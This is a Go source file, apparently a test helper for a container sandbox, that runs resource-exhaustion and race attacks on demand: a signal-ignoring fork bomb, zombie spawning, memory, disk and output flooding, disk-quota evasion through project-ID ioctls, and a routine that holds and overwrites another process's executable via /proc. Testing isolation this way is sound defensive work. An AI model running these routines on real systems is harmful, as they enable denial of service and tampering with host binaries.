package main

import (
	"fmt"
	"os"
	"os/signal"
	"path/filepath"
	"strings"
	"unsafe"

	"golang.org/x/sys/unix"
)

// exhaust are the attacks that race for something, or use up what they can get.
func exhaust(word string, args []string) {
	switch word {
	case "swap":
		swap(args[0], args[1])
	case "overwrite":
		overwrite(args[0])
	case "hog":
		hog(args[0])
	case "bomb":
		bomb()
	case "zombies":
		zombies(number(args[0]))
	case "fill":
		fill(number(args[0]))
	case "flood":
		flood(args[0])
	}
}

// swap exchanges two names for ever.
func swap(a, b string) {
	fmt.Println("ready")
	for {
		if err := unix.Renameat2(unix.AT_FDCWD, a, unix.AT_FDCWD, b, unix.RENAME_EXCHANGE); err != nil {
			fmt.Println(err)
			os.Exit(1)
		}
	}
}

// overwrite waits until another process of the container runs a program whose path contains the given word, keeps hold
// of that program, and writes to it when nothing runs it any more.
func overwrite(word string) {
	fmt.Println("ready")
	held := hold(word)
	fmt.Println("held")
	path := fmt.Sprintf("/proc/self/fd/%d", held)
	for {
		fd, err := unix.Open(path, unix.O_WRONLY|unix.O_CLOEXEC, 0)
		if err == unix.ETXTBSY {
			continue
		}
		if err == nil {
			_, err = unix.Write(fd, []byte("evil"))
		}
		fmt.Println("overwrite:", text(err))
		rest()
	}
}

func hold(word string) int {
	for {
		all, _ := filepath.Glob("/proc/[0-9]*/exe")
		for _, exe := range all {
			to, err := os.Readlink(exe)
			if err != nil || !strings.Contains(to, word) {
				continue
			}
			if fd, err := unix.Open(exe, unix.O_RDONLY|unix.O_CLOEXEC, 0); err == nil {
				return fd
			}
		}
	}
}

// hog fills a directory, or memory itself if none is given.
func hog(dir string) {
	page := make([]byte, 1<<20)
	for i := range page {
		page[i] = 1
	}
	if dir == "" {
		var all [][]byte
		for {
			all = append(all, append([]byte(nil), page...))
		}
	}
	for i := 0; ; i++ {
		if err := os.WriteFile(fmt.Sprintf("%s/%d", dir, i), page, 0o600); err != nil {
			fmt.Println("wrote", i, err)
			return
		}
	}
}

// bombLife is how long a bomb whose test was interrupted goes on, in seconds: longer than any test waits.
const bombLife = 300

// bomb forks without end, as each of its children does, all deaf to signals, until its life is over.
func bomb() {
	signal.Ignore()
	fmt.Println("ready")
	for end := seconds() + bombLife; seconds() < end; {
		_, _ = fork()
	}
	exit()
}

// zombies starts children that nobody waits for, half of them orphans.
func zombies(n int) {
	started := 0
	for i := range n {
		pid, err := fork()
		if pid == 0 && err == 0 {
			if i%2 == 1 {
				_, _ = fork() // both end
			}
			exit()
		}
		if err == 0 {
			started++
		}
	}
	fmt.Println("started", started)
	rest()
}

// fork is fork(2). Go's runtime ends a process that can't have another thread, which is what those who use up all
// processes run into: so this, and all that the child does, are bare system calls, which ask the runtime for nothing.
//
//go:nosplit
func fork() (pid uintptr, err unix.Errno) {
	pid, _, err = unix.RawSyscall6(unix.SYS_CLONE, uintptr(unix.SIGCHLD), 0, 0, 0, 0, 0)
	return pid, err
}

//go:nosplit
func exit() {
	for {
		_, _, _ = unix.RawSyscall(unix.SYS_EXIT_GROUP, 0, 0, 0)
	}
}

//go:nosplit
func seconds() int64 {
	var now unix.Timespec
	_, _, _ = unix.RawSyscall(unix.SYS_CLOCK_GETTIME, unix.CLOCK_MONOTONIC, uintptr(unsafe.Pointer(&now)), 0)
	return now.Sec
}

// flood writes without end: lines, or without a line's end.
func flood(kind string) {
	chunk := []byte(strings.Repeat("x", 1<<16))
	if kind == "lines" {
		for i := 63; i < len(chunk); i += 64 {
			chunk[i] = '\n'
		}
	}
	for {
		if _, err := os.Stdout.Write(chunk); err != nil {
			return
		}
	}
}

// fill tries in every way to have that many MiB on the disk, out of whatever bounds it.
func fill(mebibytes int) {
	for what, way := range map[string]func(f *os.File) error{
		"another project": func(f *os.File) error { return project(f, 0, 0x200) },
		"no project":      func(f *os.File) error { return project(f, 0, 0) },
		"not inherited":   func(f *os.File) error { return unix.IoctlSetPointerInt(int(f.Fd()), unix.FS_IOC_SETFLAGS, 0) },
	} {
		f, err := os.Open("/")
		if err == nil {
			err = way(f)
			f.Close()
		}
		fmt.Printf("%s: %s\n", what, text(err))
	}
	f, err := os.Create("/allocated")
	if err == nil {
		err = unix.Fallocate(int(f.Fd()), 0, 0, int64(mebibytes)<<20)
		f.Close()
		os.Remove(f.Name())
	}
	fmt.Println("allocate:", text(err))
	fmt.Println("copy up:", text(os.Chmod("/large", 0o600)))
	chunk, written := make([]byte, 1<<20), 0
	for chunk[0] = 1; written < mebibytes; written++ { // a file each, in a directory each
		dir := fmt.Sprintf("/d%d", written)
		if err = os.Mkdir(dir, 0o700); err == nil {
			err = os.WriteFile(dir+"/f", chunk, 0o600)
		}
		if err == nil {
			err = syncFile(dir + "/f")
		}
		if err != nil {
			break
		}
	}
	fmt.Printf("written: %d MiB, %s\n", written, text(err))
	empty := 0
	for err = nil; err == nil && empty < mebibytes<<8; empty++ {
		err = os.WriteFile(fmt.Sprintf("/d0/%d", empty), nil, 0o600)
	}
	fmt.Printf("empty files: %s\n", text(err))
}

// project sets the project of a file, as FS_IOC_FSSETXATTR does: flags, three numbers, and the project between them.
func project(f *os.File, id, flags uint32) error {
	attributes := [7]uint32{0: flags, 3: id}
	_, _, errno := unix.Syscall(unix.SYS_IOCTL, f.Fd(), 0x401c5820, uintptr(unsafe.Pointer(&attributes)))
	if errno != 0 {
		return errno
	}
	return nil
}

func syncFile(name string) error {
	f, err := os.Open(name)
	if err != nil {
		return err
	}
	defer f.Close()
	return f.Sync()
}
